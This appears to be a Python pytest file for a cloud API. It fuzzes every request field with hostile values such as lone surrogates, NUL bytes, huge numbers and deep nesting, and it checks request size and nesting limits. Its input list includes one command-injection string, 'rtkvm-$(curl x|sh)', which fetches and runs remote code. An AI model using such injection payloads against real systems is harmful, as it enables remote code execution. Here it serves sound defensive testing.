"""Hostile values in every field of every body, users' and agents', on SQLite and PostgreSQL.

Each operation that takes a JSON body starts from a valid body; every string
leaf is then replaced by hostile strings (a lone UTF-16 surrogate, a trailing
newline, NUL, a shell command, 10,000 characters), every number leaf by hostile
numbers (2**70, -2**70, 10**100, 1e308), and each body is also sent nested 500
deep and wrapped around a lone surrogate. No answer may be a 5xx, and after each
request every listing stays answerable (a stored value once broke the project's
measurement list and the host list for everyone). The counts are printed for
issue notes (``pytest -s``).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

from fastapi.testclient import TestClient

from rtkvm.api.testing import Cloud, expect
from rtkvm.testing.keys import ED25519

STRINGS = ["\ud800", "abc\n", "a\x00b", "rtkvm-$(curl x|sh)", "x" * 10_000, "", "9" * 5000]
NUMBERS = [2**70, -(2**70), 10**100, 1e308, -1]
LISTINGS = [
    "/v1/instances?all_projects=true",
    "/v1/hosts",
    "/v1/flavors",
    "/v1/networks",
    "/v1/projects",
    "/v1/users",
    "/v1/measurements?all_projects=true",
    "/v1/hosts/h1/unknown",
    "/v1/images",
    "/v1/keypairs",
]


def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _leaves(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _leaves(child, (*path, index))
    else:
        yield path, value


def _with(body: Any, path: tuple[Any, ...], leaf: Any) -> Any:
    out = copy.deepcopy(body)
    target = out
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = leaf
    return out


def _variants(body: Any) -> Iterator[Any]:
    for path, value in list(_leaves(body)):
        if not path:
            continue
        hostile = STRINGS if isinstance(value, str) else NUMBERS if _number(value) else []
        for leaf in hostile:
            yield _with(body, path, leaf)
        yield _with(body, path, {"deep": _deep(40)})
    yield _deep(500)
    yield {"\ud800": body}


def _number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _deep(levels: int) -> Any:
    value: Any = "bottom"
    for _ in range(levels):
        value = [value]
    return value


def _send(client: TestClient, method: str, path: str, body: Any) -> int:
    text = json.dumps(body)  # json.dumps keeps a lone surrogate as the escape \ud800
    try:
        response = client.request(
            method, path, content=text, headers={"content-type": "application/json"}
        )
    except Exception:
        return 500
    return response.status_code


def test_no_hostile_value_gets_a_5xx_or_breaks_a_listing(cloud: Cloud, db_url: str) -> None:
    agent = cloud.host("h1", physnets=("blue",), nodes=1, cores_per_node=8)
    cloud.project("p1")
    alice = cloud.member("alice", "p1")
    cloud.network("blue", "blue", shared=True)
    cloud.flavor("rt2", 2)
    vm = expect(alice.post("/v1/instances", json={"name": "vm", "flavor": "rt2"}), 201)
    expect(agent.post(f"/v1/agent/instances/{vm['id']}/state", json={"state": "active"}), 200)
    m = expect(alice.post("/v1/measurements", json={"kind": "cyclictest", "server": vm["id"]}), 201)
    report = {
        "topology": {
            "cores": [{"package": 0, "core_id": 0, "cpus": "0", "node": 0}],
            "nodes": [
                {"id": 0, "cpus": "0", "hugepages": [{"size_kb": 2048, "total": 8, "free": 8}]}
            ],
        },
        "plan": {"housekeeping": "0", "rt_vcpu": "", "dataplane": ""},
        "doctor": {"verdict": "not-ready", "failed": ["rt_throttling"]},
        "dataplane_state": "ready",
        "physnets": ["blue"],
    }
    result = {"kind": "cyclictest", "accel": "tcg", "latency": {"max_us": 10, "samples": 5}}
    admin = cloud.admin
    cases: list[tuple[TestClient, str, str, Any]] = [
        (admin, "POST", "/v1/projects", {"name": "px", "quota_rt_cores": 4, "quota_instances": 2}),
        (admin, "PUT", "/v1/projects/p1/quota", {"rt_cores": 10, "instances": 3}),
        (admin, "POST", "/v1/users", {"name": "ux", "project": "p1", "role": "member"}),
        (admin, "POST", "/v1/tokens", {"user": "alice"}),
        (admin, "POST", "/v1/hosts", {"name": "hx"}),
        (admin, "PATCH", "/v1/hosts/h1", {"rt_waiver": "lab", "pcpu_share": 2}),
        (
            admin,
            "POST",
            "/v1/flavors",
            {"name": "fx", "vcpus": 2, "ram": 512, "extra_specs": {"hw:cpu_policy": "dedicated"}},
        ),
        (
            admin,
            "POST",
            "/v1/flavors",
            {"name": "fy", "spec": {"vcpus": 2, "memory_mib": 512, "iothreads": 1}},
        ),
        (admin, "POST", "/v1/networks", {"name": "nx", "physnet": "red", "vlan": 7}),
        (alice, "POST", "/v1/instances", {"name": "vx", "flavor": "rt2", "networks": ["blue"]}),
        (
            alice,
            "POST",
            "/v1/instances",
            {"name": "vi", "flavor": "rt2", "image": "img", "disk_gb": 2},
        ),
        (alice, "POST", "/v1/images", {"name": "img", "shared": False, "project": "p1"}),
        (alice, "POST", "/v1/keypairs", {"name": "k", "public_key": ED25519}),
        (
            alice,
            "POST",
            "/v1/instances",
            {"name": "vk", "flavor": "rt2", "image": "img", "key_name": "k", "user_data": "eA=="},
        ),
        (
            alice,
            "POST",
            "/v1/measurements",
            {"kind": "rtt", "server": vm["id"], "peer": vm["id"], "rtt": {"seconds": 2}},
        ),
        (
            agent,
            "PUT",
            f"/v1/agent/instances/{vm['id']}/console",
            {"text": "ok", "truncated": False},
        ),
        (alice, "POST", f"/v1/instances/{vm['id']}/console-log", {"x": 1}),
        (agent, "PUT", "/v1/agent/host", report),
        (agent, "POST", "/v1/agent/heartbeat", {"dataplane_state": "ready"}),
        (
            agent,
            "POST",
            f"/v1/agent/instances/{vm['id']}/state",
            {"state": "error", "fault": "lost"},
        ),
        (
            agent,
            "POST",
            "/v1/agent/unknown",
            {
                "domains": [{"name": "rtkvm-x", "uuid": "u", "running": True}],
                "ports": [{"guest": "g", "nic": 0}],
            },
        ),
        (
            agent,
            "POST",
            f"/v1/agent/measurements/{m['id']}/state",
            {"state": "done", "result": result, "fault": None},
        ),
    ]
    sent = errors = 0
    failures: list[str] = []
    for client, method, path, body in cases:
        for variant in _variants(body):
            status = _send(client, method, path, variant)
            sent += 1
            if status >= 500:
                errors += 1
                failures.append(f"{method} {path} {json.dumps(variant)[:120]} -> {status}")
        for listing in LISTINGS:  # what was stored must not break what others read
            status = _get(admin, listing)
            sent += 1
            if status >= 500:
                errors += 1
                failures.append(f"GET {listing} after {method} {path} -> {status}")
    backend = db_url.split(":", 1)[0]
    print(f"\nhostile input on {backend}: {sent} requests, {errors} answered 5xx")
    assert failures == []


def _get(client: TestClient, path: str) -> int:
    try:
        return client.get(path).status_code
    except Exception:
        return 500


def test_a_body_is_read_only_with_a_token_and_only_up_to_its_route_s_limit(cloud: Cloud) -> None:
    big = b'{"name": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    anonymous = cloud.client(None)
    refused = anonymous.post("/v1/projects", content=big)
    assert refused.status_code == 401
    assert refused.json()["detail"] == "no API token: send Authorization: Bearer TOKEN"
    too_big = cloud.admin.post("/v1/projects", content=big)
    assert too_big.status_code == 413
    assert "larger than this route takes (1024 KiB)" in too_big.json()["detail"]
    deep = cloud.admin.post("/v1/projects", content=json.dumps({"name": _deep(100)}))
    assert deep.status_code == 422
    assert "nests deeper than 32 levels" in deep.json()["detail"]
    lone = cloud.admin.post("/v1/projects", content=b'{"name": "\\ud800"}')
    assert lone.status_code == 422
    assert "lone UTF-16 surrogate" in lone.json()["detail"]
    assert cloud.admin.post("/v1/projects", json={"name": "fine"}).status_code == 201


def test_names_and_labels_are_matched_whole_a_trailing_newline_included(cloud: Cloud) -> None:
    for body in (
        {"name": "abc\n", "physnet": "blue"},
        {"name": "abc", "physnet": "blue\n"},
    ):
        refused = cloud.admin.post("/v1/networks", json=body)
        assert refused.status_code in (400, 422), refused.text
    assert cloud.admin.post("/v1/projects", json={"name": "abc\n"}).status_code == 422
